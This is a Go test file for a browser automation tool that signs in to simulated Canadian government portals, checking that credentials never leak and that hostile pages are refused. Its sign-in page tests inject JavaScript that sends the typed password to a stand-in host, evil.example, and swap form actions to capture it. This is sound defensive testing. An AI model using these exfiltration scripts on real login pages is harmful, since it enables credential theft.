package automation_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"log"
	"log/slog"
	"maps"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"irccpin/automation"
	"irccpin/automation/trial"
	"irccpin/fixtures"
	"irccpin/fixtures/front"
	"irccpin/fixtures/leaks"
)

// guarded is an account whose secrets nothing else looks like, in the letters
// that every page can show.
func guarded() fixtures.Account {
	a := fixtures.DefaultAccount("en")
	a.Username, a.Password, a.TOTPSecret = "ZqSentinelUser77", `Zq7"&<x>+pass\w$`, "ZQSENTINELTOTPKEYXYZ234567ZQXYZ2"
	for i := range a.Questions {
		a.Questions[i].Answer = fmt.Sprintf("Zq Answer <%d> & Co %d", i, 4471+i)
	}
	return a
}

// between stands between the browser and a simulated portal: it changes what the
// portal says, and remembers what the browser sends.
type between struct {
	pass http.Handler
	// change rewrites a page of the portal; nil changes nothing.
	change func(r *http.Request, page string) string
	// answer answers in the portal's place when it returns true.
	answer func(w http.ResponseWriter, r *http.Request, body []byte) bool

	mu   sync.Mutex
	seen []sent
}

// sent is one request of the browser.
type sent struct {
	method, host, path string
	// all is the request as it was: line, headers and body.
	all []byte
}

// standBetween puts b in front of a portal.
func standBetween(t *testing.T, s trial.Simulated, b *between) trial.Simulated {
	t.Helper()
	proxy := trial.PassTo(s.Addr)
	proxy.ModifyResponse = func(response *http.Response) error {
		if b.change == nil || !strings.HasPrefix(response.Header.Get("Content-Type"), "text/html") {
			return nil
		}
		page, err := io.ReadAll(response.Body)
		if err != nil {
			return err
		}
		changed := b.change(response.Request, string(page))
		response.Body, response.ContentLength = io.NopCloser(strings.NewReader(changed)), int64(len(changed))
		response.Header.Set("Content-Length", fmt.Sprint(len(changed)))
		response.Header.Del("Content-Security-Policy")
		return nil
	}
	b.pass = proxy
	street, err := front.Open("127.0.0.1:0", []string{"*.gc.ca", "*.canada.ca", "*.hcaptcha.com"}, b, log.New(io.Discard, "", 0))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := street.Close(); err != nil {
			t.Error(err)
		}
	})
	return trial.Simulated{Addr: street.Addr, SPKI: street.SPKI, Env: s.Env}
}

func (b *between) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return // the browser went
	}
	r.Body = io.NopCloser(bytes.NewReader(body))
	head, err := httputil.DumpRequest(r, false)
	if err != nil {
		return
	}
	host, _, _ := strings.Cut(r.Host, ":")
	b.mu.Lock()
	b.seen = append(b.seen, sent{r.Method, host, r.URL.Path, slices.Concat(head, body)})
	b.mu.Unlock()
	if b.answer == nil || !b.answer(w, r, body) {
		b.pass.ServeHTTP(w, r)
	}
}

// carrying lists the requests that carried one of the secrets, as "POST host".
func (b *between) carrying(secrets map[string]string) []string {
	search := leaks.For(secrets)
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []string
	for _, s := range b.seen {
		if search.In("it", s.all) != nil {
			out = append(out, s.method+" "+s.host)
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

// everyAlert and the others are where an echo goes.
var (
	everyAlert = regexp.MustCompile(`<(?:div|section)[^>]*\balert\b[^>]*>`)
	closeTitle = regexp.MustCompile(`</title>`)
	closeMain  = regexp.MustCompile(`</main>|</body>`)
	statement  = regexp.MustCompile(`Immigration, Refugees and Citizenship Canada on behalf of`)
)

// echo writes texts into every corner of a page that does not make it another
// page.
func echo(page string, texts ...string) string {
	var raw, escaped []string
	for _, text := range texts {
		raw, escaped = append(raw, text), append(escaped, html.EscapeString(text))
	}
	all := strings.Join(escaped, " ; ")
	quoted, err := json.Marshal(raw)
	if err != nil {
		return page
	}
	page = closeTitle.ReplaceAllLiteralString(page, " "+all+"</title>")
	page = everyAlert.ReplaceAllStringFunc(page, func(tag string) string { return tag + "<p>" + all + "</p>" })
	page = statement.ReplaceAllLiteralString(page, "Immigration, Refugees and Citizenship Canada ("+all+") on behalf of")
	at := closeMain.FindStringIndex(page)
	if at == nil {
		return page
	}
	return page[:at[0]] + `<h2>` + all + `</h2><p title="` + all + `" data-x="` + all + `" id="` + all + `">` + all + `</p><div hidden>` + all + `</div>
<a href="/x?q=` + all + `#` + all + `">` + all + `</a><input type="hidden" name="x" value="` + all + `"><label>` + all + `</label><!-- ` + all + ` -->
<table><tr><td>` + all + `</td></tr></table><script type="application/json">` + string(quoted) + `</script>` + page[at[0]:]
}

// TestEchoes: a portal repeats all secrets in every corner of its pages, its
// titles, its messages and the statement that is ticked. Nothing of that is
// told, logged or kept. With the redactor switched off all of it is found.
func TestEchoes(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		misbehaviour string
		fault        *fixtures.Fault
		want         string
	}{
		"created":           {want: "created"},
		"refused":           {misbehaviour: "wrong-credentials", want: "credential_refused"},
		"answer refused":    {misbehaviour: "wrong-answer", want: "credential_refused"},
		"rejected":          {misbehaviour: "create-validation-error", want: "rejected_by_portal"},
		"page not known":    {fault: &fixtures.Fault{Kind: fixtures.FaultInterstitial, Page: fixtures.PageHome, Method: "GET", Times: -1}, want: "page_unknown"},
		"without redaction": {misbehaviour: "wrong-answer", want: "credential_refused"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p, s := trial.Portal(t, fixtures.Options{Seed: 11, Accounts: []fixtures.Account{guarded()}})
			if c.misbehaviour != "" {
				if err := p.Misbehave(fixtures.Misbehaviour{Name: c.misbehaviour}); err != nil {
					t.Fatal(err)
				}
			}
			if c.fault != nil {
				if err := p.Fault(*c.fault); err != nil {
					t.Fatal(err)
				}
			}
			secrets := trial.SecretsOf(guarded())
			var code string // the passcode that was typed
			b := &between{}
			b.answer = func(_ http.ResponseWriter, r *http.Request, body []byte) bool {
				if found := sixDigits.FindSubmatch(body); strings.HasPrefix(r.Host, "mfa.") && found != nil {
					b.mu.Lock()
					code = string(found[1])
					b.mu.Unlock()
				}
				return false
			}
			b.change = func(r *http.Request, page string) string {
				texts := slices.Collect(maps.Values(secrets))
				b.mu.Lock()
				texts = append(texts, code)
				b.mu.Unlock()
				if strings.Contains(r.URL.Path, "createSecondaryUser") {
					texts = append(texts, p.Accounts()[0].Users[0].PIN) // which was read by then
				}
				return echo(page, texts...)
			}
			conf := trial.Config(t, standBetween(t, s, b))
			var logged bytes.Buffer
			conf.Log = slog.New(slog.NewTextHandler(&logged, &slog.HandlerOptions{Level: slog.LevelDebug}))
			off := strings.HasPrefix(name, "without redaction")
			if off {
				conf = automation.WithoutRedaction(conf)
			}
			result := trial.Run(t, conf, automation.Create(trial.Newcomer))
			if trial.Ending(result) != c.want {
				t.Errorf("ended as %s, want %s: %+v", trial.Ending(result), c.want, result.Error)
			}
			secrets["passcode"] = code
			for _, u := range p.Accounts()[0].Users {
				secrets["PIN of "+u.GivenName] = u.PIN
			}

			if result.User != nil {
				result.User.PIN = "" // the one place where it belongs
			}
			document, err := json.Marshal(result)
			if err != nil {
				t.Fatal(err)
			}
			search := leaks.For(secrets)
			found := search.In("the result", document)
			found = append(found, search.In("the log", logged.Bytes())...)
			found = append(found, search.In("what the observer was told", []byte(conf.Observer.(*trial.Teller).String()))...)
			under, err := search.Under(conf.StateDir)
			if err != nil {
				t.Fatal(err)
			}
			found = append(found, under...)
			var report bytes.Buffer
			if err := automation.WriteRunHTML(&report, conf.StateDir, result.Run); err != nil {
				t.Fatal(err)
			}
			found = append(found, search.In("the report", report.Bytes())...)
			if !off {
				for _, leak := range found {
					t.Error(leak)
				}
				return
			}
			for _, place := range []string{"the result holds", "run.json holds", ".html holds", "ledger.db", "the report holds"} {
				for kind := range trial.SecretsOf(guarded()) {
					if !slices.ContainsFunc(found, func(leak string) bool { return strings.Contains(leak, place) && strings.Contains(leak, kind) }) {
						t.Errorf("with the redactor off, nothing tells that %s the %s", place, kind)
					}
				}
			}
		})
	}
}

var sixDigits = regexp.MustCompile(`=([0-9]{6})(?:&|$)`)

// TestHostile: each hostile page that the simulated portal knows. No secret goes
// where it does not belong, and the message says what was wrong.
func TestHostile(t *testing.T) {
	t.Parallel()
	type end struct {
		code, says string
		// where secrets may have gone by then
		to []string
	}
	const gckey, mfa, mycic = "POST clegc-gckey.gc.ca", "POST mfa.auth.canada.ca", "POST onlineservices-servicesenligne.cic.gc.ca"
	ends := map[string]end{
		"hostile-link":            {"unsafe", "clegc-gckey.gc.ca.evil.example", nil},
		"hostile-redirect":        {"unsafe", "clegc-gckey.gc.ca.evil.example", nil},
		"hostile-http":            {"unsafe", "without https", nil},
		"hostile-action":          {"unsafe", "evil.example", nil},
		"hostile-http-action":     {"unsafe", "http://clegc-gckey.gc.ca", nil},
		"hostile-action-at-click": {"unsafe", "evil.example", nil},
		"hostile-path":            {"page_unknown", "not recognised", nil},
		"hostile-popup":           {"unsafe", "evil.example", []string{gckey}},
		"hostile-question":        {"unsafe", "evil.example", []string{gckey}},
		"hostile-code":            {"unsafe", "evil.example", []string{gckey}},
		// A foreign frame is left alone: nothing is typed there.
		"hostile-frame": {"created", "", []string{gckey, mfa, mycic}},
	}
	for _, m := range fixtures.Misbehaviours() {
		if !m.Hostile {
			continue
		}
		want, known := ends[m.Name]
		if !known {
			t.Errorf("the simulated portal learnt %q, and nothing is expected of it here", m.Name)
			continue
		}
		t.Run(m.Name, func(t *testing.T) {
			t.Parallel()
			p, s := trial.Portal(t, fixtures.Options{Seed: uint64(len(m.Name)), Accounts: []fixtures.Account{guarded()}})
			if err := p.Misbehave(fixtures.Misbehaviour{Name: m.Name}); err != nil {
				t.Fatal(err)
			}
			b := &between{}
			r := trial.Run(t, trial.Config(t, standBetween(t, s, b)), automation.Create(trial.Newcomer))
			checkSafe(t, r, want.code, want.says)
			w := p.Witness()
			if len(w.Strays) > 0 || w.PlainHTTP > 0 || w.Clicked(fixtures.ClickForeignForm) > 0 {
				t.Errorf("the portal witnessed %+v, %d plain connections", w.Strays, w.PlainHTTP)
			}
			if made := len(w.Creations); made > 1 || (made == 1) != (want.code == "created") {
				t.Errorf("%d users were made", made)
			}
			for _, f := range w.Foreign {
				t.Errorf("a foreign host was reached: %+v", f)
			}
			for _, got := range b.carrying(trial.SecretsOf(guarded())) {
				if !slices.Contains(want.to, got) {
					t.Errorf("a secret went out by %s", got)
				}
			}
		})
	}
}

// checkSafe checks how a run ended and that the message says why, without any
// secret.
func checkSafe(t *testing.T, r *automation.Result, code, says string) {
	t.Helper()
	if trial.Ending(r) != code {
		t.Errorf("ended as %s, want %s: %+v", trial.Ending(r), code, r.Error)
	}
	if r.Error == nil {
		return
	}
	if !strings.Contains(r.Error.Message, says) || r.Error.Hint == "" {
		t.Errorf("%q (%q) does not say %q", r.Error.Message, r.Error.Hint, says)
	}
	if found := leaks.For(trial.SecretsOf(guarded())).In("the message", []byte(r.Error.Message+r.Error.Hint)); found != nil {
		t.Errorf("%q", found)
	}
}

// TestSignInPageTurns: the real sign-in page, at its real place, with one thing
// about it that a hostile script or a broken server could do. The password goes
// to GCKey's own host by post, or nowhere.
func TestSignInPageTurns(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]turn{
		"another base": {change: func(page string) string {
			return strings.Replace(strings.Replace(page, "<head>", `<head><base href="https://evil.example/">`, 1), `action="https://clegc-gckey.gc.ca/`, `action="/`, 1)
		}, code: "unsafe", says: "evil.example"},
		"the button's own action": {change: func(page string) string {
			return strings.Replace(page, `<button type="submit"`, `<button type="submit" formaction="https://www.canada.ca/collect"`, 1)
		}, code: "unsafe", says: "elsewhere"},
		"by get": {change: func(page string) string {
			return strings.Replace(page, `<form id="login" name="login" method="post"`, `<form id="login" name="login" method="get"`, 1)
		}, code: "unsafe", says: "address"},
		"swapped after typing": {
			change: script(`document.getElementById("token2").addEventListener("change", () => { document.getElementById("login").action = "https://www.canada.ca/collect"; });`),
			code:   "unsafe", says: "elsewhere",
		},
		"swapped while it leaves": {
			change: script(`document.getElementById("login").addEventListener("formdata", () => {}); HTMLFormElement.prototype.submit = new Proxy(HTMLFormElement.prototype.submit, { apply(f, form) { form.action = "https://www.canada.ca/collect"; return Reflect.apply(f, form, []); } });`),
			code:   "unsafe", says: "a post to www.canada.ca while a secret was on the page",
		},
		"told to another host of the catalog": {
			change: script(`document.getElementById("token2").addEventListener("change", (e) => { fetch("https://www.canada.ca/collect", {method: "POST", mode: "no-cors", body: e.target.value}).catch(() => {}); navigator.sendBeacon("https://onlineservices-servicesenligne.cic.gc.ca/collect", e.target.value); });`),
			code:   "created", may: true,
		},
		"told to a foreign host": {
			change: script(`document.getElementById("token2").addEventListener("change", (e) => { const v = encodeURIComponent(e.target.value); new Image().src = "https://evil.example/?" + v; new WebSocket("wss://evil.example/" + v); fetch("https://evil.example/?" + v).catch(() => {}); document.body.insertAdjacentHTML("beforeend", "<iframe hidden src='https://evil.example/?" + v + "'></iframe><link rel=stylesheet href='https://evil.example/?" + v + "'>"); });`),
			code:   "created", may: true,
		},
		"in the address of a window": {
			change: script(`document.getElementById("token2").addEventListener("change", (e) => { window.open("https://www.canada.ca/?q=" + encodeURIComponent(e.target.value)); });`),
			// The page's own post may be on its way by then.
			code: "unsafe", says: "an address with a secret in it", may: true,
		},
		"posted on by a redirect": {answer: func(w http.ResponseWriter, r *http.Request, body []byte) bool {
			if !bytes.Contains(body, []byte("token2=")) || r.Host != "clegc-gckey.gc.ca" {
				return false
			}
			http.Redirect(w, r, "https://www.canada.ca/collect", http.StatusTemporaryRedirect)
			return true
		}, code: "unsafe", says: "a post to www.canada.ca while a secret was on the page", may: true},
	} {
		t.Run(name, c.take)
	}
}

// nowhere is a proxy that knows the way to no host, so that a test of the live
// portal cannot reach it. It counts who asked.
func nowhere(t *testing.T) (address string, asked func() []string) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var hosts []string
	server := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		hosts = append(hosts, r.Method+" "+r.RequestURI)
		w.WriteHeader(http.StatusBadGateway)
	})}
	go func() { _ = server.Serve(listener) }()
	t.Cleanup(func() { _ = server.Close() })
	return "http://" + listener.Addr().String(), func() []string {
		mu.Lock()
		defer mu.Unlock()
		slices.Sort(hosts)
		return slices.Compact(slices.Clone(hosts))
	}
}

// TestSandboxRule: nothing is typed into a browser without its sandbox at the
// live portal. As root Chrome has none, and does not even start.
func TestSandboxRule(t *testing.T) {
	t.Parallel()
	_, s := trial.Portal(t, fixtures.Options{Accounts: []fixtures.Account{guarded()}})
	proxy, asked := nowhere(t)
	conf := trial.Config(t, s)
	conf.Simulator, conf.Environ = nil, []string{"HTTPS_PROXY=" + proxy}
	conf.StateDir = filepath.Join(conf.StateDir, "state")

	r := trial.RunAlone(t, conf, automation.List())
	if root := runtime.GOOS == "linux" && os.Geteuid() == 0; root {
		checkSafe(t, r, "unsafe", "without its sandbox")
		if _, err := os.Stat(conf.StateDir); !os.IsNotExist(err) {
			t.Errorf("something was started: %v", err)
		}
		if got := asked(); got != nil {
			t.Errorf("the network was used: %q", got)
		}
		conf.AllowNoSandbox = true
		r = trial.RunAlone(t, conf, automation.List())
	}
	// With a sandbox, or with leave to do without, it goes to the live portal:
	// through the proxy that is set, and nowhere else.
	checkSafe(t, r, "portal_unavailable", "")
	if got := asked(); !slices.Equal(got, []string{"CONNECT www.canada.ca:443"}) {
		t.Errorf("the proxy was asked for %q", got)
	}
	if r.Simulated {
		t.Error("a live run calls itself simulated")
	}
}

// TestNoAuthorization: without a person's word the statement is not ticked.
func TestNoAuthorization(t *testing.T) {
	t.Parallel()
	p, s := trial.Portal(t, fixtures.Options{Seed: 3})
	if err := p.Misbehave(fixtures.Misbehaviour{Name: "2fa-off"}); err != nil {
		t.Fatal(err)
	}
	order := trial.Newcomer
	order.AuthorizedBy = " "
	r := trial.Run(t, trial.Config(t, s), automation.Create(order))
	checkSafe(t, r, "unsafe", "nobody is named")
	if w := p.Witness(); len(w.Creations) > 0 || w.PageLoads(fixtures.PageCreate) > 0 {
		t.Errorf("the form was opened: %v", w.Loads)
	}
}

// TestSettingsOfOthers: a settings file that others can read is refused before
// anything starts, and told with the command that mends it.
func TestSettingsOfOthers(t *testing.T) {
	if runtime.GOOS == "windows" {
		return // which has no such permissions
	}
	_, s := trial.Portal(t, fixtures.Options{Accounts: []fixtures.Account{guarded()}})
	for _, mode := range []os.FileMode{0o640, 0o604, 0o644, 0o666, 0o620, 0o602} {
		if err := os.Chmod(s.Env, mode); err != nil {
			t.Fatal(err)
		}
		_, err := automation.LoadSettings(t.Context(), automation.SettingsFrom{File: s.Env, FileNamed: true})
		var stop *automation.Error
		if !errors.As(err, &stop) || stop.Code != automation.BadSettings || !strings.Contains(stop.Message+stop.Hint, "chmod 600 "+s.Env) {
			t.Errorf("%o: %+v", mode, err)
			continue
		}
		if found := leaks.For(trial.SecretsOf(guarded())).In("the error", []byte(fmt.Sprintf("%v %+v %s", err, err, stop.Hint))); found != nil {
			t.Errorf("%q", found)
		}
	}
}
